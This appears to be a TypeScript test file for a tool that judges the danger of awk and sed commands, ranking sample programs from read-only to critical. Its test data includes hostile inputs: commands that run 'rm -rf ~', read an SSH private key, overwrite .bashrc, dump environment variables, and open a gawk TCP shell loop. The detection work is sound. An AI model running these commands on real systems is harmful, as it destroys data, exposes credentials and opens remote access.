import { expect, test } from "vitest";
import { literal } from "../../command-line/word.ts";
import { judgeCommand } from "../../judge.ts";
import { around } from "../../testing/around.ts";
import { effectLines } from "../../testing/effects.ts";
import { codeEffects } from "./index.ts";

const judged = (program: string, code: string): string => {
  const line = `${program} '${code.replaceAll("'", `'\\''`)}' a.txt`;
  const { severity, onlyReads } = judgeCommand(line, around);
  return severity === "none" ? (onlyReads ? "reads" : "more") : severity;
};

test.each([
  "{s+=$1} END{print s}",
  '{print $1, ($2 > 3) ? "a" : "b"}',
  'NR>1 && $3>max {max=$3} END {print max > "/dev/stderr"}',
  '/system\\(/ {print "system(x)"} # system("x")',
  'BEGIN{print ENVIRON["HOME"], 4/2, /a"b/ ? 1 : 2}',
  "{ if ($1 > 5) print $2; else print $3 }",
  'BEGIN{while((getline l < "a.txt") > 0) n++}',
])("awk that only computes and prints: %s", (code) => {
  expect(judged("awk", code)).toBe("reads");
});

test.each([
  ['{print $1 > "out.txt"}', "more"],
  ['{printf "%s", $1 >> "/tmp/" "x"}', "more"],
  ['@include "x.awk"', "more"],
  ['BEGIN{system("id")}', "high"],
  ['{print | "id"}', "high"],
  ['{c="rm " $1; system(c)}', "high"],
  ["{print > $1}", "high"],
  ["BEGIN{for (k in ENVIRON) print ENVIRON[k]}", "high"],
  ['BEGIN{while((getline l < "/home/dev/.ssh/id_rsa") > 0) print l}', "high"],
  ['BEGIN{while(("rm -rf ~" | getline l) > 0) print l}', "critical"],
  ['{print > "/home/dev/" ".bashrc"}', "critical"],
  ['BEGIN{s="/inet/tcp/0/h/1"; while(1){s |& getline c; while((c |& getline)>0) print |& s}}', "critical"],
])("awk that writes or runs: %s", (code, outcome) => {
  expect(judged("awk", code)).toBe(outcome);
});

test.each([
  "s/a/b/g",
  "1,40p",
  "$!N;s/\\n/ /;P;D",
  "/^#/d;/^$/d",
  "s|a/b|c;w x|g",
  "2,/end/{s/x/y/;p}",
  "12p\n40,45p",
  "y/abc/wer/",
  "a\\\nw foo\np",
  "$a\\",
  "i e id; w x",
  ":a;N;$!ba;s/\\n/,/g",
  "s,/usr/bin,/opt,g;1~2d;0,/re/s//x/;$q5",
  's/^\\(.*\\)$/"\\1"/',
  "/foo/I,+3d",
  "s/e/w/;s/[^/]*$//",
  "s/a/b/w /dev/stdout",
])("sed that only changes its output: %s", (code) => {
  expect(judged("sed", code)).toBe("reads");
});

test.each([
  ["s/a/b/w out.txt", "more"],
  ["/x/{n;w out.txt\n}", "more"],
  ["a hello\nw out.txt", "more"],
  ["s/a/b/e", "high"],
  ["s,a,b,Ige;p", "high"],
  ["\\,x,e", "high"],
  ["s/[/]/x/;e id", "high"],
  ["s/a/b", "high"],
  ["r /home/dev/.ssh/id_rsa", "high"],
  ["1e rm -rf ~", "critical"],
  ["w /home/dev/.bashrc", "critical"],
])("sed that writes or runs: %s", (code, outcome) => {
  expect(judged("sed", code)).toBe(outcome);
});

test.each(["\0,\0p", "s/a/\0/g;/\0/d", "1i \0"])("an unknown part is no command of sed: %s", (code) => {
  expect(effectLines(codeEffects("sed", literal(code)))).toEqual([]);
});
